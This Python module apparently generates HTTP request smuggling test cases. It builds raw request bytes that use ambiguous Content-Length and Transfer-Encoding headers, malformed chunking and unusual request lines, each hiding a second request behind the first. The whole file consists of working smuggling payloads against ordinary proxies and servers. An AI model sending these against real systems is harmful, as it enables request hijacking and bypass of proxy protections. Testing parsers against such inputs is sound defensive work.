"""
Requests whose end a proxy and a server may see at different places (RFC 9112 section 11.2).

Each attack is bytes for one connection. Where it hides a second request, that one posts a document with the
text ``smuggled``.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

HIDDEN_BODY: Final = b'{"data": [{"text": "smuggled"}], "execEndpoint": "/"}'
HIDDEN: Final = (
    b"POST /post HTTP/1.1\r\nHost: hidden\r\nContent-Type: application/json\r\n"
    b"Content-Length: %d\r\n\r\n%s" % (len(HIDDEN_BODY), HIDDEN_BODY)
)
# The start of a request that swallows the next client's: its head becomes a header here.
SWALLOW: Final = b"POST /post HTTP/1.1\r\nHost: hidden\r\nX-Swallowed: "

_LENGTHS: Final = {
    "": "Content-Length: {}\r\n",
    "a space before the colon": "Content-Length : {}\r\n",
    "a tab before the colon": "Content-Length\t: {}\r\n",
    "a plus": "Content-Length: +{}\r\n",
    "a minus": "Content-Length: -{}\r\n",
    "zeros": "Content-Length: 000{}\r\n",
    "a fraction": "Content-Length: {}.0\r\n",
    "an exponent": "Content-Length: {}e0\r\n",
    "0x": "Content-Length: 0x{}\r\n",
    "an underscore": "Content-Length: 0_{}\r\n",
    "quotes": 'Content-Length: "{}"\r\n',
    "a list": "Content-Length: {}, {}\r\n",
    "a list with zero": "Content-Length: {}, 0\r\n",
    "zero first": "Content-Length: 0\r\nContent-Length: {}\r\n",
    "zero last": "Content-Length: {}\r\nContent-Length: 0\r\n",
    "twice": "Content-Length: {0}\r\nContent-Length: {0}\r\n",
    "a second line": "Content-Length:\r\n {}\r\n",
    "a vertical tab": "Content-Length: \x0b{}\r\n",
    "NUL": "Content-Length: {}\0\r\n",
    "a bare CR": "Content-Length: {}\rX: y\r\n",
    "a bare LF": "X: y\nContent-Length: {}\r\n",
    "more than 64 bits": "Content-Length: 1844674407370955161{}\r\n",
    "an underscore in the name": "Content_Length: {}\r\n",
}
_CODINGS: Final = {
    "": "Transfer-Encoding: chunked\r\n",
    "lower case": "transfer-encoding: chunked\r\n",
    "upper case": "Transfer-Encoding: CHUNKED\r\n",
    "a space before the colon": "Transfer-Encoding : chunked\r\n",
    "a tab before the colon": "Transfer-Encoding\t: chunked\r\n",
    "a tab after the colon": "Transfer-Encoding:\tchunked\r\n",
    "a vertical tab": "Transfer-Encoding:\x0bchunked\r\n",
    "a form feed": "Transfer-Encoding: \x0cchunked\r\n",
    "NUL": "Transfer-Encoding: chunked\0\r\n",
    "a second line": "Transfer-Encoding:\r\n chunked\r\n",
    "a header before in two lines": "X: y\r\n Transfer-Encoding: chunked\r\n",
    "a bare CR before": "X: y\rTransfer-Encoding: chunked\r\n",
    "a bare LF before": "X: y\nTransfer-Encoding: chunked\r\n",
    "a bare LF after": "Transfer-Encoding: chunked\n",
    "quotes": 'Transfer-Encoding: "chunked"\r\n',
    "a parameter": "Transfer-Encoding: chunked;q=1\r\n",
    "twice": "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
    "twice in a line": "Transfer-Encoding: chunked, chunked\r\n",
    "identity": "Transfer-Encoding: identity\r\n",
    "identity first": "Transfer-Encoding: identity, chunked\r\n",
    "identity last": "Transfer-Encoding: chunked, identity\r\n",
    "identity in a line before": "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n",
    "identity in a line after": "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
    "gzip first": "Transfer-Encoding: gzip, chunked\r\n",
    "an unknown coding": "Transfer-Encoding: xchunked\r\n",
    "an empty coding": "Transfer-Encoding:\r\n",
    "a comma": "Transfer-Encoding: ,chunked\r\n",
    "an underscore in the name": "Transfer_Encoding: chunked\r\n",
    "a letter that is none": "Transfer-Encoding: chun\xe4ked\r\n",
    "a bare CR after": "Transfer-Encoding: chunked\r\r\n",
    "hop by hop": "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n",
}
_CHUNKS: Final = {
    "a size that overflows": b"10000000000000002\r\n{}\r\n0\r\n\r\n",
    "0x": b"0x2\r\n{}\r\n0\r\n\r\n",
    "a plus": b"+2\r\n{}\r\n0\r\n\r\n",
    "a minus": b"-2\r\n{}\r\n0\r\n\r\n",
    "a blank before": b" 2\r\n{}\r\n0\r\n\r\n",
    "a blank after": b"2 \r\n{}\r\n0\r\n\r\n",
    "an underscore": b"0_2\r\n{}\r\n0\r\n\r\n",
    "a bare LF after a size": b"2\n{}\r\n0\r\n\r\n",
    "a bare CR after a size": b"2\r{}\r\n0\r\n\r\n",
    "a bare LF in an extension": b"2;a\nxx\r\n{}\r\n0\r\n\r\n",
    "a bare CR in an extension": b"2;a\rxx\r\n{}\r\n0\r\n\r\n",
    "a long extension": b"2;" + b"a" * 1500 + b"\r\n{}\r\n0\r\n\r\n",
    "more than its size": b"2\r\n{}xx0\r\n\r\n",
    "less than its size": b"3\r\n{}\r\n0\r\n\r\n",
    "a bare LF after the data": b"2\r\n{}\n0\r\n\r\n",
    "another length in the trailer": b"2\r\n{}\r\n0\r\nContent-Length: 80\r\n\r\n",
    "a coding in the trailer": b"2\r\n{}\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n",
    "a bare LF at the end": b"2\r\n{}\r\n0\r\n\n",
    "a trailer without a colon": b"2\r\n{}\r\n0\r\nx\r\n\r\n",
    "no last line": b"2\r\n{}\r\n0\r\n",
}
_LINES: Final = {
    "HTTP/0.9": b"GET /status\r\n",
    "HTTP/1.0 in chunks": b"POST /post HTTP/1.0\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "HTTP/1.0 to be kept": b"POST /post HTTP/1.0\r\nHost: x\r\nConnection: keep-alive\r\n\r\n",
    "HTTP/2.0": b"POST /post HTTP/2.0\r\nHost: x\r\n\r\n",
    "HTTP/1.10": b"POST /post HTTP/1.10\r\nHost: x\r\nContent-Length: 0\r\n\r\n",
    "a GET with a body": b"GET /status HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(HIDDEN),
    "a HEAD with a body": b"HEAD / HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(HIDDEN),
    "an OPTIONS with a body": b"OPTIONS * HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(HIDDEN),
    "a refused path with a body": b"POST /no HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(HIDDEN),
    "a refused method with a body": b"PUT /post HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n"
    % len(HIDDEN),
    "Expect": b"POST /no HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nContent-Length: %d\r\n\r\n"
    % len(HIDDEN),
    "an upgrade that fails": (
        b"GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: x\r\n\r\n"
    ),
    "an upgrade to h2c": (
        b"GET /status HTTP/1.1\r\nHost: x\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\n"
        b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n"
    ),
    "a blank line before": b"\r\nPOST /post HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}",
    "two blanks": b"POST  /post HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}",
    "a target with CR LF in an escape": b"GET /%0d%0aX:%20y HTTP/1.1\r\nHost: x\r\n\r\n",
    "two Hosts": b"POST /post HTTP/1.1\r\nHost: x\r\nHost: y\r\nContent-Length: 2\r\n\r\n{}",
    "no Host": b"POST /post HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}",
    "Connection names the length": (
        b"POST /post HTTP/1.1\r\nHost: x\r\nConnection: Content-Length\r\nContent-Length: %d\r\n\r\n"
        % len(HIDDEN)
    ),
    "a length of 0 with a body": b"POST /post HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n",
    "neither length nor coding": b"POST /post HTTP/1.1\r\nHost: x\r\n\r\n",
}


def attacks() -> Iterator[tuple[str, bytes]]:
    """Every attack with its name."""
    head = b"POST /post HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
    for hidden_name, hidden in (("a request", HIDDEN), ("half a request", SWALLOW)):
        chunked = b"2\r\n{}\r\n0\r\n\r\n" + hidden  # ends early for who reads chunks
        for name, line in _LENGTHS.items():
            whole = line.format(len(chunked), len(chunked)).encode("latin-1")
            early = line.format(2, 2).encode("latin-1")
            yield f"length ({name}) before {hidden_name}", head + early + b"\r\n{}" + hidden
            yield f"length ({name}) over {hidden_name}", head + whole + b"\r\n" + chunked
            coding = b"Transfer-Encoding: chunked\r\n"
            yield f"length ({name}) and chunks over {hidden_name}", head + whole + coding + b"\r\n" + chunked
        for name, line in _CODINGS.items():
            coding = line.encode("latin-1")
            length = b"Content-Length: %d\r\n" % len(chunked)
            short = b"Content-Length: 4\r\n"
            long = b"%x\r\n%s\r\n0\r\n\r\n" % (len(hidden), hidden)
            yield f"coding ({name}) before {hidden_name}", head + coding + b"\r\n" + chunked
            yield f"coding ({name}), then length, {hidden_name}", head + coding + length + b"\r\n" + chunked
            yield f"length, then coding ({name}), {hidden_name}", head + length + coding + b"\r\n" + chunked
            yield f"coding ({name}) and a short length, {hidden_name}", head + short + coding + b"\r\n" + long
        for name, body in _CHUNKS.items():
            sent = head + b"Transfer-Encoding: chunked\r\n\r\n" + body + hidden
            yield f"chunks ({name}) before {hidden_name}", sent
        for name, line_and_more in _LINES.items():
            yield f"{name}, with {hidden_name}", line_and_more + hidden
